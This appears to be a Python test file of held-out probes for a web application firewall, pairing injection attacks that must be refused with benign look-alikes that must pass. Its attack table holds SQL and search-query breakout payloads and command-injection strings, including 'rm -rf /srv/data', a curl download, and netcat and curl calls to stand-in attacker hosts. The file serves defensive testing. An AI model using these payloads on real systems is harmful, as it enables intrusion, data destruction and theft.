"""WAF, part 2y: held-out probes, twenty-third file (README: the
thirty-second round), written for this file on 2026-12-05 after the hr
and insurance corpora (tests/corpus/hr/, tests/corpus/insurance/) were
first replayed, for the classes they showed. No string is taken from a
corpus or a public list: each class is written here in shapes of our
own, through the real edge (shipped config, bans off).

Look-alikes that must pass:
- list-numbering: a clause's numbering "3.e." then a blank (MySQL's
  "1.e(" and "1.e.name" glue the number to a call or a name);
- product-names: a product's name after a separator, capital and
  lower-case letters, then words alone ("VMs & Ansible welcome");
- one-word-then-command: a label or a heading on the first line, then a
  command line (a note's example);
- group-breakout and match-all: a search's own groups and ranges, the
  word match_all in prose;
- row-end: an apostrophe inside a word, a group the value opens.

Attacks that must be refused:
- early-close: a ")" the value never opened after a condition of its
  own, then OR and a comparison no row decides;
- group-breakout: a ")" the value never opened, then OR and a group of
  its own that holds a match-all or a range open at one end;
- match-all: Elasticsearch's match_all query document as a value;
- one-word-then-command: a first line of one word, then a command given
  an option, a path or a URL;
- product-names: a case-blind system's command after a separator, with
  an address, an option or nothing after it;
- row-end: the value's first quote closes the application's literal,
  then more literals of the row, its ")" and a comment or ";" (an
  INSERT's values written by the client after words of its own).

Measured before the changes (2026-12-05, on b21e5ba): 7 of the first 14
attacks passed (the early close after a condition, the group breakouts,
match_all, the one-word first lines; the rest check the bounds of the
product-name and numbering changes) and 5 of the 12 look-alikes were
refused (the product names, the numbering); the row-end class was added
after, its 2 attacks passing on b21e5ba. After them: every attack
refused, every look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "early-close": ["qty > 5 and bin = 4) OR (7=7", "level >= 2) or 3=3 --"],
    "group-breakout": ["ruby) OR (grade:*", "swift) OR (team:north AND bonus:[50000 TO *]"],
    "match-all": ['{ "size": 5000, "query": { "match_all": {} } }',
                  '{"bool":{"should":[{"match_all":{}},{"term":{"team":"a"}}]}}'],
    "one-word-then-command": ["ops\nrm -rf /srv/data", "hr\ncurl -fsS http://198.51.100.4/a -o a"],
    "product-names": ["x; Id", "x; Curl attacker.example", "x & Ping -n 3 127.0.0.1",
                      "x | Nc 198.51.100.7 9001"],
    "list-numbering": ["1.e(ascii(user()))", "2.e.accounts"],
    "row-end": ["Annual leave', 'GRANTED')#", "Offsite week', 3, 'ok') ;"],
}

BENIGN = {
    "early-close": ["qty > 5 and bin = 4) see note"],
    "group-breakout": ["(ruby OR elixir) AND NOT agency", "price:[10 TO *] AND brand:north"],
    "match-all": ["avoid match_all on large indices"],
    "one-word-then-command": ["Cleanup:\nrun make clean first", "Steps\nmake test"],
    "product-names": ["Go & Python a plus", "VMs & Ansible preferred",
                      "Excel; Python nice to have"],
    "list-numbering": ["Clause 4.e. The insurer will pay", "See 2.e. below for limits"],
    "row-end": ["It's fine, 'really') -- Tom", "Options (a, 'b') -- pick one"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r23_attack_refused_everywhere,
 test_heldout_r23_benign_passes) = heldout_probe_tests(
    "r23", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
